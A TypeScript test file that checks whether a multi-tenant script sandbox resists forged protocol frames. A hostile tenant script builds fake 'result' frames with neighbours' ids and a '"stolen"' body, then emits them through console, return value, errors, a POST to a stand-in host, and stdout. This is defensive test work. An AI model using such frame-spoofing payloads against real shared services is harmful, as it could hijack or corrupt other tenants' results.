/**
 * Scripts that write what looks like a message of their host (attacks C-11, #165). What a run says travels
 * as the counted body of a frame with the id of that run, on a pipe of its own; standard output is closed.
 */
import { expect } from 'chai';
import { encodeFrame, FrameReader } from '../../shared/sandbox/frames.ts';
import { type Sandbox, startSandbox } from '../support/sandbox.ts';

/** Ids count from 1, so a script may well know that of its neighbour. */
const IDS = Array.from({ length: 300 }, (_, index) => index);
const FAKE = encodeFrame({ kind: 'result', id: 1, ending: 'ok', console: [] }, '"stolen"');

/** Makes the frames inside, byte for byte, and hands them to `say`. */
const SHOUT = `const frame = (header, body) => {
    const head = Buffer.from(JSON.stringify(header)), text = Buffer.from(body);
    const lengths = Buffer.alloc(8);
    lengths.writeUInt32BE(4 + head.length + text.length, 0);
    lengths.writeUInt32BE(head.length, 4);
    return Buffer.concat([lengths, head, text]).toString('latin1');
  };
  const IDS = ${JSON.stringify(IDS)};
  const result = (id) => frame({ kind: 'result', id, ending: 'ok', console: [] }, '"stolen"');
  const shout = (say) => { for (const id of IDS) say(result(id)); say(frame({ kind: 'ready' }, '')); };
  const all = IDS.map(result).join('');`;

const WAYS: Record<string, string> = {
  'its console': `shout((text) => console.log(text)); shout((text) => console.error('\\n' + text)); return 1;`,
  'its result': 'return { all };',
  'an error': 'throw Object.assign(new Error(all), { name: all, errors: { [all]: [all] } });',
  'what it asks for': `await Promise.allSettled([fetch('https://a.example/', { method: 'POST', body: all })]); return 1;`,
  'standard output': `try { shout((text) => process.stdout.write(text)); } catch {} return 1;`,
};

describe('a script that writes frames of its own', () => {
  let sandbox: Sandbox;
  before(async () => {
    sandbox = await startSandbox();
  });
  after(() => sandbox.supervisor.close());

  for (const [way, body] of Object.entries(WAYS)) {
    it(`answers for nobody by ${way}`, async () => {
      const waiting = Array.from({ length: 20 }, (_, index) =>
        sandbox.value(
          `module.exports = (req) => new Promise((resolve) =>
          setTimeout(() => resolve('mine ' + req.args), 100));`,
          {
            ...{ tenant_id: 'neighbour', script_version: 'waits', args: String(index) },
          },
        ),
      );
      const source = `module.exports = async () => { ${SHOUT} ${body} };`;
      const ended = await sandbox.result(source);
      expect(ended.kind).to.be.oneOf(['ok', 'error']);
      expect(JSON.stringify(ended)).not.to.match(/^.{0,40}stolen/);
      expect(await Promise.all(waiting)).to.deep.equal(waiting.map((_, index) => `mine ${index}`));
      expect(await sandbox.value('module.exports = () => "after";')).to.equal('after');
    });
  }

  it('is read by the lengths before it, whatever it holds', () => {
    const header = {
      kind: 'result',
      id: 7,
      ending: 'ok',
      console: [{ text: FAKE.toString('latin1') }],
    };
    const body = FAKE.toString('latin1').repeat(3);
    const read = [...new FrameReader().push(encodeFrame(header, body))];
    expect(read).to.deep.equal([{ header, body }]);
  });
});
